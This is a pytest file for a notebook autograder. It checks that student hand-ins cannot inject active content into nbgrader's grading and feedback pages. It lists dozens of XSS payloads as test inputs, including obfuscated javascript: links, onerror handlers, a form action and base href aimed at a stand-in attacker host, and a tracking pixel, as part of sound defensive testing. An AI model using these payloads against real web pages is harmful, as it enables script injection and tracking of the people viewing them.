"""What a hand-in writes stays text on the pages of graders and students: nothing in it acts, nothing is fetched."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest
from nbconvert.exporters import HTMLExporter
from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath
from nbformat.notebooknode import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.server_extensions.formgrader.handlers import static_path, template_path
from small_course import cell_of

from autograder.feedback import feedback
from autograder.hand_in_notebook import read_hand_in
from autograder.safe_markdown import safe_markdown

pytestmark = pytest.mark.hostile


@pytest.fixture(autouse=True)
def counted(record_property: Callable[[str, object], None]) -> None:
    """Each test here is an attack that the last lines of `make test-hostile` count."""
    record_property("attack on", "nbgrader's pages")


MARKUP = {
    "a script": "<script>alert(1)</script>",
    "a script from another server": "<ScRiPt src=//evil.example/x.js>",
    "a picture that fails": "<img src=x onerror=alert(1)>",
    "a tag behind a tag": "<<img src=x onerror=alert(1)>",
    "a picture that loads": "<svg/onload=alert(1)>",
    "a page within the page": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "a comment before a tag": "<!-- --><b onmouseover=alert(1)>x",
    "a link that runs": "[a](javascript:alert(1))",
    "a link in odd letters": "[a](JaVaScRiPt:alert(1))",
    "a link over two lines": "[a](java\nscript:alert(1))",
    "a link behind a space": "[a]( javascript:alert(1))",
    "a link with a coded letter": "[a](&#106;avascript:alert(1))",
    "a link with a coded colon": "[a](javascript&colon;alert(1))",
    "a link in codes": "[a](&#x6A&#x61&#x76&#x61&#x73cript:alert(1))",
    "a link behind a control character": "[a](\x01javascript:alert(1))",
    "a link in another language": "[a](vbscript:x)",
    "a page in a link": "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "a link in angle brackets": "<javascript:alert(1)>",
    "a link defined elsewhere": "[a]: javascript:alert(1)\n\n[a]",
    "a picture that runs": "![a](javascript:alert(1))",
    "a picture that breaks out of its quotes": '![a](x" onerror="alert(1))',
    "a title that breaks out of its quotes": "[a](x 'y\" onclick=\"alert(1)')",
    "a drawing in a picture": "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "a language name that breaks out": '```html"onclick=alert(1)\nx\n```',
    "a script in code": "`<script>`",
    "a script in an indented block": "    <script>alert(1)</script>",
    "a formula that links": "$\\href{javascript:alert(1)}{x}$",
    "a formula with a tag": "$<img src=x onerror=alert(1)>$",
    "a display formula with a tag": "$$\n<script>alert(1)</script>\n$$",
    "an environment with a tag": "\\begin{x}<script>alert(1)</script>\\end{x}",
    "a heading with a tag": "# <script>alert(1)</script>",
    "a table with a tag": "| <script>alert(1)</script> |\n|---|\n",
    "an address in backquotes": "<a href=`javascript:alert(1)`>",
    "a tag in codes": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "a tag behind terminal codes": "\x1b[31m<script>alert(1)</script>",
    "a style from another server": "<style>@import '//evil.example'</style>",
    "a form": "<form action=//evil.example><input>",
    "another base address": "<base href=//evil.example>",
    "attributes in braces": "# x {onclick=alert(1)}",
    "a drawing attached": "![a](attachment:x.svg)",
    "a tag in MathML": "<math><mtext><script>alert(1)</script></mtext></math>",
    "a tag with an invisible letter": "<\u200bscript>",
    "a picture from my server tells me who reads": "![a](https://evil.example/x.png)",
    "a picture from my server, defined elsewhere": "![a][1]\n\n[1]: //evil.example/x.png",
    "a picture that asks the grader's own server": "![a](/formgrader/api/submission/1/unflag)",
    "a tag in wide letters": "\uff1cscript\uff1e",
}


class Page(HTMLParser):
    """Collects what could act on a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: dict[str, int] = {}
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] = self.tags.get(tag, 0) + 1
        for name, value in attrs:
            target = re.sub(r"[\x00-\x20]", "", value or "").lower()  # as browsers do
            if name.startswith("on") or name == "srcdoc":
                self.bad.append(f"{tag} {name}={value}")
            if tag == "img" and name == "src" and not target.startswith("data:image/png;base64,"):
                self.bad.append(f"img src={value}")
            if name in {"href", "src", "action", "xlink:href"} and re.match(r"[a-z][a-z0-9+.-]*:", target):
                allowed = target.startswith(("http:", "https:", "mailto:", "data:image/png"))
                if not allowed:
                    self.bad.append(f"{tag} {name}={value}")


def rendered(path: Path, template: str) -> Page:
    """The page that nbgrader makes of a notebook, with its own templates."""
    styles = Path(static_path) / "node_modules" / "bootstrap" / "dist" / "css"
    exporter = HTMLExporter(
        template_name=template, extra_template_basedirs=[template_path], extra_template_paths=[str(styles)]
    )
    about = {"notebook": "Dropout", "score": 0, "max_score": 0, "late_penalty": 0}
    names = ("submission_id", "assignment_id", "notebook_id", "student", "last_name", "first_name", "notebook_path")
    resources = {"nbgrader": about, "base_url": "", "index": 0, "total": 1, **dict.fromkeys(names, "x")}
    html, _ = exporter.from_filename(str(path), resources=resources)
    page = Page()
    page.feed(html)
    return page


def hand_in_with(text: str) -> NotebookNode:
    """A notebook that has `text` wherever a hand-in may have text."""
    data = {"text/html": "<script>alert(1)</script>", "image/svg+xml": "<svg onload=alert(1)>", "text/plain": text}
    outputs = [
        new_output("display_data", data=data),
        new_output("display_data", data={"text/markdown": text, "text/latex": text}),
        new_output("stream", text=text),
        new_output("error", ename=text, evalue=text, traceback=[text]),
    ]
    raw = new_raw_cell(text, metadata={"raw_mimetype": "text/html", "format": "text/html"})
    code = [new_code_cell(text), *(new_code_cell("x", outputs=[output]) for output in outputs)]
    return new_notebook(cells=[new_markdown_cell(text, attachments=SVG), raw, *code])


def page_of(nb: NotebookNode, folder: Path, template: str) -> Page:
    """The page that is made of a hand-in."""
    (folder / "hand-in.ipynb").write_text(json.dumps(nb))
    (folder / "clean.ipynb").write_text(json.dumps(read_hand_in(folder / "hand-in.ipynb")))
    return rendered(folder / "clean.ipynb", template)


@pytest.fixture(scope="module", params=["formgrade", "feedback"])
def harmless(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple[str, Page]:
    """A template, and its page of a hand-in that holds nothing but words."""
    return request.param, page_of(hand_in_with("words"), tmp_path_factory.mktemp("words"), request.param)


@pytest.mark.parametrize("name", MARKUP)
def test_nothing_in_a_hand_in_acts_on_the_pages(name: str, harmless: tuple[str, Page], tmp_path: Path) -> None:
    template, expected = harmless
    attacked = page_of(hand_in_with(MARKUP[name]), tmp_path, template)
    assert attacked.bad == expected.bad
    for tag in ("script", "style", "iframe", "form", "base", "svg", "object", "embed", "input", "link", "math"):
        assert attacked.tags.get(tag) == expected.tags.get(tag), tag


SVG = {"x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4="}}


def test_the_parser_of_these_tests_sees_an_attack_that_is_not_cleaned(tmp_path: Path) -> None:
    path = tmp_path / "raw.ipynb"
    path.write_text(json.dumps(new_notebook(cells=[new_markdown_cell("<img src=x onerror=alert(1)>")])))
    assert "img onerror=alert(1)" in rendered(path, "formgrade").bad


SCRIPT = "<script>document.title = 'mine'</script>"


@pytest.mark.parametrize("make", [new_raw_cell, new_code_cell], ids=["raw", "code"])
def test_answer_in_a_cell_of_another_kind_is_harmless_too(classroom, make):
    nb = classroom.released()
    index = nb.cells.index(cell_of(nb, "explain_scaling"))
    nb.cells[index] = make(SCRIPT, metadata=nb.cells[index].metadata)
    classroom.hand_in("eve", nb)
    assert classroom.record("eve") == ""
    assert "<script" not in cell_of(classroom.autograded("eve"), "explain_scaling").source
    assert feedback(classroom.course, classroom.assignment) == {"eve": ""}
    page = next((classroom.course.root / "feedback" / "eve").rglob("*.html")).read_text(encoding="utf-8")
    assert SCRIPT not in page


@pytest.mark.parametrize(
    "text",
    [
        "[x](files/java&#115;cript:alert(1))",
        "[x](/files/java&#115;cript:alert(1))",
        "[x][1]\n\n[1]: files/java&#115;cript:alert(1)",
    ],
)
def test_link_that_a_filter_turns_into_a_script_becomes_plain_text(text):
    assert safe_markdown(text) == f"~~~\n{text.replace('(', '( ', text.count('(files') + text.count('(/files'))}\n~~~"


def test_macro_hidden_in_a_backslash_and_half_letters_are_removed():
    assert "\\href" not in safe_markdown("\\\\href{a}{b}")
    safe_markdown("a \ud800").encode("utf-8")


def test_an_answer_with_a_picture_from_elsewhere_stays_readable() -> None:
    assert (
        safe_markdown("See ![plot](https://a.example/x.png), **so**.") == "See [plot](https://a.example/x.png), **so**."
    )


@pytest.mark.parametrize("opening", ["](files/", "](/files/", "]\\(files/", "](\\/files\\/"])
def test_links_to_files_leave_the_pages_filter_nothing_to_search(opening: str) -> None:
    text = safe_markdown("[" * 4000 + opening * 800)  # with a filter that finds them: 10 minutes
    html = MarkdownWithMath(renderer=IPythonRenderer(escape=False)).render(text)
    assert not re.search(r"\(/?files/", html)


def test_a_long_row_of_backslashes_before_a_macro_goes_at_once() -> None:
    assert safe_markdown("\\" * 20_000 + "href{a}{b} " + "\\" * 9_000) == "href{a}{b} " + "\\" * 9_000
